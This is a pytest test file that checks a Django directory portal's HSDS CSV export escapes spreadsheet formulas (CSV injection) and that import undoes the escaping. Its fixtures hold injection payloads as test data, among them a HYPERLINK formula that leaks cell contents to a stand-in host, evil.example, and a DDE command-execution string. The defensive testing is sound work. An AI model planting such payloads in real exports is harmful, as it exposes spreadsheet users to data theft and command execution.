"""export_hsds writes no cell that a spreadsheet would run as a formula (OWASP, "CSV
Injection"): such text gets an apostrophe first unless --raw is given, and importing an
escaped export takes the apostrophe off again, so that no data changes on the way."""

import csv
import io
import json
import zipfile
from decimal import Decimal

import pytest
from django.core.management import call_command
from hypothesis import given
from hypothesis import strategies as st

from directory import models
from directory.hsds import package_export, package_import
from directory.hsds.reader import (
    FORMULA_STARTS,
    escape_formula,
    needs_formula_escape,
    unescape_formula,
)

from .factories import (
    CategoryFactory,
    LocationFactory,
    OrganizationFactory,
    PhoneFactory,
    ServiceFactory,
)
from .fixtures.hsds_package import GOOD_PACKAGE, canonical_dump, wipe_directory, write_package

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for help")'


def read_table(folder, file: str) -> list[dict[str, str]]:
    with (folder / file).open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def hsds_id(obj) -> str:
    """The HSDS id the export stored for a row made here."""
    return type(obj).objects.values_list("hsds_id", flat=True).get(pk=obj.pk)


def row_of(folder, file: str, **match: str) -> dict[str, str]:
    (row,) = [
        row
        for row in read_table(folder, file)
        if all(row[key] == value for key, value in match.items())
    ]
    return row


@pytest.fixture
def risky():
    """Listings whose text starts as a spreadsheet formula would, or nearly."""
    organization = OrganizationFactory(
        name=HYPERLINK,
        alternate_name="@SUM(A1:A9)",
        description="-2+3 people a day",
        legal_status="+cmd|' /C calc'!A0",
    )
    category = CategoryFactory(name="=Food", code="food", taxonomy="Portal topics")
    service = ServiceFactory(
        organization=organization,
        name="'=already quoted",
        description="''=two quotes",
        fees_description="'plain quote",
        eligibility_description="Adults - 18 and over",
        categories=[category],
    )
    location = LocationFactory(
        organization=organization,
        name="@home",
        latitude=Decimal("-33.5"),
        longitude=Decimal("-70.6"),
    )
    PhoneFactory(service=service, number="+1 555 0100", description="=1+1")
    return {"organization": organization, "service": service, "location": location}


def test_text_a_spreadsheet_would_run_gets_an_apostrophe_first(tmp_path, risky):
    package_export(tmp_path / "out")

    organization = row_of(tmp_path / "out", "organizations.csv", id=hsds_id(risky["organization"]))
    assert organization["name"] == f"'{HYPERLINK}"
    assert organization["alternate_name"] == "'@SUM(A1:A9)"
    assert organization["description"] == "'-2+3 people a day"
    assert organization["legal_status"] == "'+cmd|' /C calc'!A0"
    term = row_of(tmp_path / "out", "taxonomy_terms.csv", code="food")
    assert term["name"] == "'=Food"
    phone = row_of(tmp_path / "out", "phones.csv", service_id=hsds_id(risky["service"]))
    assert (phone["number"], phone["description"]) == ("'+1 555 0100", "'=1+1")
    location = row_of(tmp_path / "out", "locations.csv", id=hsds_id(risky["location"]))
    assert location["name"] == "'@home"


def test_numbers_and_text_that_only_looks_near_a_formula_are_written_as_they_are(tmp_path, risky):
    package_export(tmp_path / "out")

    location = row_of(tmp_path / "out", "locations.csv", id=hsds_id(risky["location"]))
    assert Decimal(location["latitude"]) == Decimal("-33.5")  # a number, not text
    assert not location["latitude"].startswith("'")
    service = row_of(tmp_path / "out", "services.csv", id=hsds_id(risky["service"]))
    assert service["eligibility_description"] == "Adults - 18 and over"
    assert service["fees_description"] == "'plain quote"
    # An apostrophe already before a formula gets one more, so that one can be taken off.
    assert service["name"] == "''=already quoted"
    assert service["description"] == "'''=two quotes"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_of_owasp_is_escaped(tmp_path, start):
    organization = OrganizationFactory(name=f"{start}1+1")

    package_export(tmp_path / "out")

    assert row_of(tmp_path / "out", "organizations.csv", id=hsds_id(organization))["name"] == (
        f"'{start}1+1"
    )


@pytest.mark.parametrize("raw", [False, True], ids=["escaped", "raw"])
def test_a_lone_carriage_return_in_a_cell_keeps_its_row_whole(tmp_path, raw):
    """The csv module leaves a cell with a \r but no \n unquoted; the row would end there."""
    OrganizationFactory(description="Line one\rline two")
    package_export(tmp_path / "out", raw=raw)
    wipe_directory()

    report = package_import(tmp_path / "out")

    assert report.ok, report.lines()
    assert models.Organization.objects.get().description == "Line one\rline two"


def test_raw_keeps_every_cell_as_stored(tmp_path, risky):
    package_export(tmp_path / "out", raw=True)

    organization = row_of(tmp_path / "out", "organizations.csv", id=hsds_id(risky["organization"]))
    assert organization["name"] == HYPERLINK
    assert organization["legal_status"] == "+cmd|' /C calc'!A0"
    service = row_of(tmp_path / "out", "services.csv", id=hsds_id(risky["service"]))
    assert service["name"] == "'=already quoted"


def test_the_package_says_whether_its_formulas_were_escaped(tmp_path, risky):
    package_export(tmp_path / "escaped")
    package_export(tmp_path / "raw", raw=True)

    escaped = json.loads((tmp_path / "escaped" / "datapackage.json").read_text())
    raw = json.loads((tmp_path / "raw" / "datapackage.json").read_text())
    assert escaped["formulas_escaped"] is True
    assert "apostrophe" in escaped["description"]
    assert raw["formulas_escaped"] is False
    assert "apostrophe" not in raw["description"]


@pytest.mark.parametrize("target", ["escaped", "escaped.zip", "raw", "raw.zip"])
def test_importing_an_export_gives_back_exactly_what_was_exported(tmp_path, risky, target):
    package_export(tmp_path / target, include_confidential=True, raw=target.startswith("raw"))
    before = canonical_dump()
    wipe_directory()

    report = package_import(tmp_path / target)

    assert report.ok, report.lines()
    assert canonical_dump() == before
    assert models.Organization.objects.get().name == HYPERLINK
    assert models.Service.objects.get().name == "'=already quoted"
    assert models.Phone.objects.get().number == "+1 555 0100"


def test_a_package_that_does_not_say_so_is_imported_as_written(tmp_path):
    """Another system's package (or a --raw export) keeps its apostrophes."""
    organizations = GOOD_PACKAGE["organizations.csv"].replace("Grace Chapel", "'=Grace Chapel")
    package_import(write_package(tmp_path / "pkg", organizations_csv=organizations))

    assert models.Organization.objects.get(hsds_id="o-2").name == "'=Grace Chapel"


def test_a_datapackage_json_that_is_not_this_portals_unescapes_nothing(tmp_path):
    organizations = GOOD_PACKAGE["organizations.csv"].replace("Grace Chapel", "'=Grace Chapel")
    package = write_package(tmp_path / "pkg", organizations_csv=organizations)
    for text in ('{"formulas_escaped": "yes"}', "[1, 2]", "{not json", "[" * 100_000):
        (package / "datapackage.json").write_text(text)

        package_import(package)

        assert models.Organization.objects.get(hsds_id="o-2").name == "'=Grace Chapel"


def test_the_command_escapes_unless_told_raw(tmp_path, capsys, risky):
    call_command("export_hsds", str(tmp_path / "escaped.zip"))
    escaped_output = capsys.readouterr().out
    call_command("export_hsds", str(tmp_path / "raw.zip"), "--raw")
    raw_output = capsys.readouterr().out

    assert "formulas escaped for spreadsheets" in escaped_output
    assert "cells as stored" in raw_output
    with zipfile.ZipFile(tmp_path / "escaped.zip") as archive:
        escaped = archive.read("organizations.csv").decode()
    with zipfile.ZipFile(tmp_path / "raw.zip") as archive:
        raw = archive.read("organizations.csv").decode()
    assert next(csv.DictReader(io.StringIO(escaped)))["name"] == f"'{HYPERLINK}"
    assert next(csv.DictReader(io.StringIO(raw)))["name"] == HYPERLINK


@given(st.text(alphabet=st.sampled_from(["'", "=", "+", "-", "@", "\t", "\r", "a", " "])))
def test_escaping_is_undone_exactly_and_leaves_no_formula(text):
    escaped = escape_formula(text)

    assert unescape_formula(escaped) == text
    assert not escaped.startswith(FORMULA_STARTS)
    assert needs_formula_escape(text) == (escaped != text)
